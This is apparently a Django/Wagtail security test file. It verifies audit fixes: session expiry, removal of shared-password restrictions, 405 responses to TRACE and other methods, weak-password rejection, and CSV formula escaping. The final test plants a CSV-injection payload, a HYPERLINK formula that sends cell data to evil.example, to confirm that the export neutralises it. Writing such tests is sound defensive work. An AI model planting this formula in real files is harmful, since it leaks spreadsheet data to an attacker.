"""Finding 12 (sessions, shared passwords, TRACE), finding 11's CSV export, and the
password validators for members."""

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from wagtail.admin.forms.collections import CollectionViewRestrictionForm
from wagtail.admin.forms.pages import PageViewRestrictionForm
from wagtail.models import PageViewRestriction

from home.factories import StandardPageFactory
from privacy.restricting import MEMBERS_GROUP
from security.tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db


def test_a_members_session_ends_with_the_browser_and_after_twelve_hours(client, member):
    with time_machine.travel(timezone.now(), tick=False) as traveller:
        response = client.post("/login/", {"username": member.username, "password": PASSWORD})
        assert response.status_code == 302
        cookie = response.cookies["sessionid"]
        assert not cookie["max-age"] and not cookie["expires"], "a browser-session cookie"
        assert client.session.get_expiry_age() == 12 * 60 * 60
        traveller.shift(timedelta(hours=11))
        assert client.session.get("_auth_user_id") == str(member.pk)
        traveller.shift(timedelta(hours=2))
        assert client.session.get("_auth_user_id") is None


def test_the_admin_offers_no_shared_password_restriction():
    page_choices = dict(
        PageViewRestrictionForm(private_page_options=["password", "login"])
        .fields["restriction_type"]
        .choices
    )
    assert PageViewRestriction.PASSWORD not in page_choices
    assert PageViewRestriction.LOGIN in page_choices
    collection_form = CollectionViewRestrictionForm()
    assert "password" not in collection_form.fields
    assert "password" not in dict(collection_form.fields["restriction_type"].choices)


def test_a_password_restriction_made_in_code_still_protects_its_page(client, home_page):
    page = StandardPageFactory(parent=home_page, title="Board papers")
    PageViewRestriction.objects.create(
        page=page, restriction_type=PageViewRestriction.PASSWORD, password="board-2030"
    )
    response = client.get(page.url)
    assert response.status_code == 200 and "Board papers" not in response.content.decode()
    assert 'name="password"' in response.content.decode()


@pytest.mark.parametrize("method", ["TRACE", "TRACK", "CONNECT", "PROPFIND", "PUT", "DELETE"])
@pytest.mark.parametrize(
    "url, allowed",
    [
        ("/", "GET, HEAD, OPTIONS, POST"),
        ("/search/?q=child", "GET, HEAD, OPTIONS, POST"),
        ("/sitemap.xml", "GET, HEAD, OPTIONS, POST"),
        ("/api/v2/pages/", "GET, HEAD, OPTIONS"),
    ],
)
def test_methods_the_site_does_not_serve_answer_405(client, home_page, method, url, allowed):
    response = client.generic(method, url)
    assert response.status_code == 405
    assert response["Allow"] == allowed


def test_the_api_names_the_same_methods_whichever_it_refuses(client, home_page):
    """A POST reaches the API's views (their own 405); a PUT stops at the middleware."""
    post, put = client.post("/api/v2/pages/"), client.put("/api/v2/pages/")
    assert post.status_code == put.status_code == 405
    assert post["Allow"] == put["Allow"] == "GET, HEAD, OPTIONS"


def test_trace_is_refused_in_the_admin_too(client, admin_user):
    client.force_login(admin_user)
    assert client.generic("TRACE", reverse("wagtailadmin_home")).status_code == 405


@pytest.mark.parametrize(
    "password",
    ["password", "12345678", "short", "member-one"],
    ids=["common", "numeric", "short", "like-username"],
)
def test_a_weak_password_for_a_member_is_a_form_error(client, admin_user, password):
    client.force_login(admin_user)
    members, _ = Group.objects.get_or_create(name=MEMBERS_GROUP)
    response = client.post(
        reverse("wagtailusers_users:add"),
        {
            "username": "member-one",
            "email": "one@example.org",
            "first_name": "One",
            "last_name": "Member",
            "password1": password,
            "password2": password,
            "is_active": "on",
            "groups": [members.pk],
        },
    )
    assert response.status_code == 200
    assert response.context["form"].errors.get("password2")
    assert not get_user_model().objects.filter(username="member-one").exists()


def test_site_history_csv_exports_formulas_as_text(client, admin_user, home_page):
    title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    page = StandardPageFactory(parent=home_page, title=title)
    page.save_revision(user=admin_user, log_action=True).publish(user=admin_user)
    client.force_login(admin_user)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    labels = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert labels and all(label == "'" + title for label in labels)
